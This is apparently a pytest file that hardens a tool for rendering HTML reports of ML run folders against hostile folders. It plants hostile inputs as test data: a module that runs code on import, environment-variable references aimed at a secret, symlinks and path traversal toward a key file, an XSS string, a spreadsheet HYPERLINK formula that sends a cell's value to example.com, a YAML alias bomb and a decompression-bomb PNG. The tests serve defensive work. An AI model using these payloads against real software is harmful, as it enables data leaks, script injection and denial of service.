"""The folder of somebody else's run is data: nothing in it runs, is looked up, is followed, or stops the reader.

FUZZ=500 python -m pytest tests/framework/faults: four times as many damaged folders.
"""

from __future__ import annotations

import base64
import contextlib
import csv
import hashlib
import json
import os
import shutil
import signal
import sys
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml
from PIL import Image
from safetensors import safe_open
from safetensors.torch import load_file, save_file

import mhprobe.compare
from framework.faults.test_damaged_files import DAMAGES
from mhprobe.errors import UserError
from mhprobe.pages.html import write_comparison, write_report
from mhprobe.report.report import Report
from mhprobe.report.runs.folder import plain_yaml
from mhprobe.report.runs.run import expand, read_run, read_runs
from pages.report_html.conftest import layout, make_run
from pages.report_html.test_page import Page

BUDGET = 4 * int(os.environ.get("FUZZ", 6))
SECRET = "4f1c-the-secret-of-this-machine"
SECONDS = 60  # for a page that takes a tenth of one: as long as a machine may be slow


class Hang(BaseException):
    """Raised where a reader waits for ever; no handler of errors catches it."""


@contextlib.contextmanager
def in_time(seconds: int = SECONDS) -> Iterator[None]:
    def stop(*_: object) -> None:
        raise Hang

    before = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


@pytest.fixture(scope="module")
def whole(tmp_path_factory) -> Path:
    """A run with all kinds of files, and few pictures: they take the time."""
    folder = make_run(tmp_path_factory.mktemp("whole") / "run")
    Image.new("RGB", (40, 30)).save(folder / "figures" / "svcca.png")
    file = folder / "results.json"
    about = json.loads(file.read_text())
    for name, entry in about["results"].items():
        if name != "svcca":
            entry.pop("figure", None)
    file.write_text(json.dumps(about))
    return folder


@pytest.fixture
def run(whole, tmp_path) -> Path:
    return Path(shutil.copytree(whole, tmp_path / "theirs" / "run"))


@pytest.fixture
def secret(tmp_path) -> Path:
    """What a link, or a path in a setting, may lead to."""
    outside = tmp_path / "mine"
    outside.mkdir()
    (outside / "keys.csv").write_text(f"head_a,head_b,value\n0,1,{SECRET}\n")
    (outside / "keys.json").write_text(json.dumps({"class_names": [SECRET], "data": SECRET}))
    return outside


def page_of(folder: Path) -> str:
    with in_time():
        return write_report(folder).read_text()


def test_no_setting_imports_anything(run, tmp_path, monkeypatch):
    """S1: the parent of ``planted.part`` was imported to look the part up."""
    monkeypatch.syspath_prepend(str(tmp_path))
    mark = tmp_path / "it_ran"
    (tmp_path / "planted").mkdir()
    (tmp_path / "planted" / "__init__.py").write_text(
        f"__import__('pathlib').Path({str(mark)!r}).touch()"
    )
    (tmp_path / "planted" / "part.py").write_text('"""Found."""')
    parts = {name: {"_target_": "planted.part.Thing"} for name in ("gate_importance", "svcca")}
    (run / "config" / "config.yaml").write_text(
        json.dumps({"measure": parts, "_target_": "planted.part.Thing"})
    )
    assert "Found." not in page_of(run)
    write_comparison(read_runs([run, run]), tmp_path / "c.html")
    assert not mark.exists() and not [name for name in sys.modules if name.startswith("planted")]
    __import__("planted")  # the control: it can be imported
    assert mark.exists()


def test_no_reference_is_looked_up(run, tmp_path, monkeypatch):
    """S2: ``${oc.env:NAME}`` became what the environment holds."""
    monkeypatch.setenv("PLANTED_KEY", SECRET)
    asked = "${oc.env:PLANTED_KEY}"
    settings = {"seed": asked, "weights": asked, "other": "${oc.decode:${oc.env:PLANTED_KEY}}"}
    (run / "config" / "config.yaml").write_text(yaml.safe_dump(settings))
    (run / "config" / "overrides.yaml").write_text("- data.root=${oc.env:PLANTED_KEY}\n")
    (run / "run.json").unlink(missing_ok=True)
    text = page_of(run)
    assert SECRET not in text and "${oc.env:PLANTED_KEY}" in text  # as it was written
    assert SECRET not in write_comparison(read_runs([run, run]), tmp_path / "c.html").read_text()


LINKS: dict[str, Callable[[Path, Path], None]] = {
    "a table": lambda run, mine: relinked(run / "tables" / "svcca.csv", mine / "keys.csv"),
    "the folder of tables": lambda run, mine: relinked(run / "tables", mine),
    "the metrics": lambda run, mine: relinked(run / "metrics.json", mine / "keys.json"),
    "the facts": lambda run, mine: relinked(run / "run.json", mine / "keys.json"),
    "what describes the weights": lambda run, mine: relinked(
        run / "model.json", mine / "keys.json"
    ),
    "a figure": lambda run, mine: relinked(run / "figures" / "svcca.png", mine / "keys.csv"),
    "the settings": lambda run, mine: relinked(run / "config" / "config.yaml", mine / "keys.json"),
    "maps": lambda run, mine: relinked(run / "maps.safetensors", mine / "keys.json"),
    "weights by their path": lambda run, mine: weighted(run, mine / "keys.safetensors"),
}


def relinked(path: Path, to: Path) -> None:
    shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
    path.symlink_to(to)


def weighted(run: Path, weights: Path) -> None:
    (run / "model.json").unlink()
    (run / "config" / "config.yaml").write_text(json.dumps({"weights": str(weights)}))


@pytest.mark.parametrize("name", LINKS)
def test_nothing_leads_out_of_the_folder(run, secret, name, tmp_path):
    """S3: files that a link or a setting named were read into the page."""
    LINKS[name](run, secret)
    text = page_of(run)
    assert SECRET not in text
    assert ("a link, which is not followed" in text) == ("path" not in name)
    write_comparison(read_runs([run, run]), tmp_path / "c.html")
    assert SECRET not in (tmp_path / "c.html").read_text()


def test_a_ledger_that_is_a_link_is_refused_and_a_job_that_is_one_is_no_job(run, secret, tmp_path):
    relinked(run / "results.json", secret / "keys.json")
    with in_time(), pytest.raises(UserError, match="a link, which is not followed"):
        write_report(run)
    sweep = tmp_path / "sweep"
    (sweep / "0").mkdir(parents=True)
    (sweep / "0" / "metrics.json").write_text("{}")
    (sweep / "1").symlink_to(run)
    assert [job.name for job in expand([sweep])] == ["0"]


FILES = [
    "results.json",
    "metrics.json",
    "run.json",
    "model.json",
    "config/config.yaml",
    "config/overrides.yaml",
]
FILES += [
    "tables/svcca.csv",
    "figures/svcca.png",
    "maps.safetensors",
    "attention.safetensors",
    "outcomes.safetensors",
]


@pytest.mark.parametrize("how", ["pipe", "folder", "endless"])
@pytest.mark.parametrize("name", FILES)
def test_what_is_no_ordinary_file_is_not_opened(run, name, how, tmp_path):
    """S4: a pipe was waited for, /dev/zero was read to the end of memory."""
    path = run / name
    path.unlink(missing_ok=True)
    if how == "pipe":
        os.mkfifo(path)
    elif how == "folder":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero")
    with in_time():
        try:
            assert (
                name in page_of(run) or name == "outcomes.safetensors"
            )  # it is named, among what could not be read
        except UserError as error:
            assert name == "results.json" and name in str(error) and "\n" not in str(error)
        with contextlib.suppress(UserError):
            write_comparison(read_runs([run, run]), tmp_path / "c.html")


def bomb(run: Path) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    (run / "config" / "config.yaml").write_text("\n".join(lines))


def picture(run: Path) -> None:
    """A PNG of 40,000 x 40,000 pixels in a few kB."""

    def chunk(name: bytes, data: bytes) -> bytes:
        body = name + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    head = (40_000).to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])
    data = zlib.compress(bytes(2_000_000))
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    (run / "figures" / "svcca.png").write_bytes(png)


def undecodable(run: Path) -> None:
    (run / os.fsdecode(b"tables/\xff\xfe.csv")).write_text("a,b\n1,2\n")
    (run / "tables" / "svcca.csv").write_bytes(b"head_a,head_b,value\n\xff\xfe,1,2\n")


def many(run: Path) -> None:
    (run / "run.json").write_text(json.dumps({"heads": [["site", 0, 0, 10**12]]}))


KEPT: dict[str, tuple[str, dict[str, str]]] = {
    "questions that are no JSON": ("attention", {"queries": "{"}),
    "questions that are a list": ("attention", {"queries": "[1]"}),
    "a site that has no map": ("attention", {"queries": '{"the class token": ["nowhere"]}'}),
    "a title that is a number": ("attention", {"titles": "3"}),
    "heads that are no JSON": ("maps", {"heads": "{"}),
    "a head that is a word": (
        "maps",
        {"heads": '{"attention/block 2 head 0": ["attention maps", "eight"]}'},
    ),
    "a head that has no map": (
        "maps",
        {"heads": '{"attention/block 9 head 0": ["attention maps", 8]}'},
    ),
}


@pytest.mark.parametrize("name", KEPT)
def test_damaged_metadata_of_maps_costs_these_maps_alone(run, name):
    """The run had no page at all: one file of pictures took its numbers along."""
    stem, damage = KEPT[name]
    path = run / f"{stem}.safetensors"
    with safe_open(str(path), "pt") as file:
        about = dict(file.metadata())
    save_file(load_file(path), path, {**about, **damage})
    text = page_of(run)
    assert f"{stem}.safetensors" in Page(text).text  # among what could not be read
    kinds = {"attention": "attention of the class token", "maps": "attention maps"}
    shown = {kind for kind, title in kinds.items() if f'{{"name":"{title}"' in text}
    assert shown == {*kinds} - {stem}


BOMBS: dict[str, Callable[[Path], Any]] = {
    "aliases": bomb,
    "a deep setting": lambda run: (run / "config" / "config.yaml").write_text("[" * 50_000),
    "a deep object": lambda run: (run / "run.json").write_text("[" * 100_000 + "]" * 100_000),
    "a deep ledger": lambda run: (run / "results.json").write_text('{"results":' * 50_000),
    "a picture": picture,
    "names that are no text": undecodable,
    "a billion heads": many,
    "a long number": lambda run: (run / "metrics.json").write_text(
        f'{{"test/accuracy": {"9" * 100_000}}}'
    ),
    "a large file": lambda run: os.truncate(run / "tables" / "svcca.csv", 10**10),
}


@pytest.mark.parametrize("name", BOMBS)
def test_what_is_small_on_disk_stays_small(run, name):
    BOMBS[name](run)
    with contextlib.suppress(UserError), in_time(20):
        assert len(page_of(run)) < 8_000_000


def test_a_spreadsheet_finds_no_formula_in_tables_of_runs(whole, tmp_path, monkeypatch):
    """S5: a setting of somebody's run stood in runs.csv and grid.csv as a formula, which a spreadsheet runs."""
    formula = '=HYPERLINK("https://example.com/?"&A1, "click")'
    for job, (lr, name) in enumerate(
        [("0.1", formula), ("0.2", formula), ("0.1", "@SUM(1)"), ("-0.2", "plain")]
    ):
        run = shutil.copytree(whole, tmp_path / "sweep" / str(job))
        (run / "config" / "config.yaml").write_text(
            yaml.safe_dump({"seed": job, "lr": lr, "=name": name})
        )
    out = tmp_path / "out"
    monkeypatch.setattr(sys, "argv", ["compare", str(tmp_path / "sweep"), "--out", str(out)])
    mhprobe.compare.main()
    texts = [path.read_text().splitlines() for path in out.glob("tables/*.csv")]
    cells = [cell for lines in texts for row in csv.reader(lines) for cell in row]
    assert [cell for cell in cells if cell[:1] in "=+@\t\r" and cell] == []
    assert f"'{formula}" in cells and "-0.2" in cells  # the text is there, and a number is a number
    assert {path.stem for path in out.glob("tables/*.csv")} >= {"runs", "grid"}


def test_the_pages_scripts_run_by_their_hashes(whole, tmp_path):
    """S6: any script ran that was in the page, however it came there."""
    for page in (
        Page(page_of(whole)),
        Page(write_comparison(read_runs([whole, whole]), tmp_path / "c.html").read_text()),
    ):
        (policy,) = [
            a["content"]
            for _, a in page.elements
            if a.get("http-equiv") == "Content-Security-Policy"
        ]
        rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
        assert rules["default-src"] == "'none'" and "unsafe" not in rules["script-src"]
        hashes = rules["script-src"].split()
        assert [allowance(script) for script in page.scripts[1:]] == hashes and len(hashes) > 3
        assert allowance("alert(1)") not in hashes


def allowance(script):
    """The words by which a Content-Security-Policy allows a script."""
    return f"'sha256-{base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()}'"


def test_the_loader_takes_what_runs_write():
    text = "a: 1\nb: [1.5, null, true]\nc: {d: '${seed}', e: 1.0e-05}\n"
    assert plain_yaml(text) == {"a": 1, "b": [1.5, None, True], "c": {"d": "${seed}", "e": 1e-5}}
    for wrong in ("a: &x 1\nb: *x\n", "[" * 60 + "]" * 60):
        with pytest.raises(ValueError, match=r"alias|deep"):
            plain_yaml(wrong)


def test_outcomes_that_contradict_the_metrics_are_none(run):
    import torch

    from mhprobe.io.tensors import write_outcomes

    write_outcomes(run, torch.arange(10) < 9, torch.arange(10), "x")
    assert read_run(run).outcomes() is not None
    write_outcomes(run, torch.arange(10) < 2, torch.arange(10), "x")
    theirs = read_run(run)
    assert theirs.outcomes() is None and "another accuracy" in theirs.unread[-1]
    (run / "outcomes.safetensors").write_bytes(b"half a fi")
    theirs = read_run(run)
    assert theirs.outcomes() is None and theirs.unread[-1] == "outcomes.safetensors: damaged"
    (run / "metrics.json").write_text(json.dumps({"test/accuracy": 1.7, "test/images": 300}))
    assert "170" not in Page(page_of(run)).text and "expected a share" in Page(page_of(run)).text


WEIRD: list[Any] = [
    None,
    -1,
    1e308,
    10**30,
    0.5,
    True,
    "",
    "x" * 10_000,
    "../../mine/keys.csv",
    "\ud800",
    [],
    {},
    [[]],
]
WEIRD += [
    {"a": {"b": [1]}},
    "</script><script>alert(1)</script>",
    "tables/../../../mine/keys.csv",
    "NaN",
]


def nodes(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every place in plain values, as its container and key."""
    for key in (
        list(value)
        if isinstance(value, dict)
        else range(len(value))
        if isinstance(value, list)
        else ()
    ):
        yield value, key
        yield from nodes(value[key])


def damaged(run: Path, secret: Path, rng: np.random.Generator) -> str:
    """One to three damages; what was done, for the message of a failure."""
    done = []
    for _ in range(int(rng.integers(1, 4))):
        files = sorted(path for path in run.rglob("*") if path.is_file() and not path.is_symlink())
        path = files[int(rng.integers(len(files)))]
        how = int(rng.integers(6))
        done.append(f"{path.relative_to(run)}: {how}")
        if how < 2 and path.suffix == ".json":
            with contextlib.suppress(ValueError):
                about = json.loads(path.read_text())
                places = list(nodes(about))
                container, key = places[int(rng.integers(len(places)))]
                container[key] = WEIRD[int(rng.integers(len(WEIRD)))]
                path.write_text(json.dumps(about))
        elif how == 2:
            path.unlink()
            becomes = ("a link", "a pipe", "a folder", "nothing")[int(rng.integers(4))]
            if becomes == "a link":
                path.symlink_to(secret / "keys.csv")
            elif becomes == "a pipe":
                os.mkfifo(path)
            elif becomes == "a folder":
                path.mkdir()
        elif how == 3 and path.suffix == ".csv":
            rows = [line.split(",") for line in path.read_text(errors="replace").splitlines()] or [
                [""]
            ]
            row = rows[int(rng.integers(len(rows)))]
            row[int(rng.integers(len(row)))] = str(
                WEIRD[int(rng.integers(len(WEIRD) - 4))]
            ).replace("\ud800", "?")
            path.write_text("\n".join(",".join(cells) for cells in rows))
        else:
            data = bytearray(path.read_bytes() or b"x")
            DAMAGES[int(rng.integers(len(DAMAGES)))](data, rng)
            path.write_bytes(data)
    return ", ".join(done)


@pytest.mark.parametrize("part", range(4))
def test_no_damaged_folder_gives_a_traceback_hangs_or_leaks(whole, secret, tmp_path, part):
    rng = np.random.default_rng(part)
    refused = pages = 0
    for number in range(BUDGET // 4):
        run = Path(shutil.copytree(whole, tmp_path / f"run_{number}"))
        done = damaged(run, secret, rng)
        try:
            with in_time():
                text = write_report(run).read_text()
                text += write_comparison(read_runs([whole, run]), tmp_path / "c.html").read_text()
            pages += 1
            assert SECRET not in text, done
            assert "<script>alert" not in text, done
        except UserError as error:
            refused += 1
            assert "\n" not in str(error) and len(str(error)) < 1000 and SECRET not in str(error), (
                done
            )
        except (Exception, Hang) as error:
            raise AssertionError(f"{number}: {done}: {error!r}") from error
        shutil.rmtree(run)
    assert pages > refused  # most damage leaves something to show


def test_a_folder_of_before_there_were_ledgers_is_refused_in_a_line(run):
    (run / "results.json").unlink()
    with pytest.raises(UserError, match=r"no results\.json, which lists them"):
        write_report(run)
    Report(run, layout())  # the control: a report goes on in it
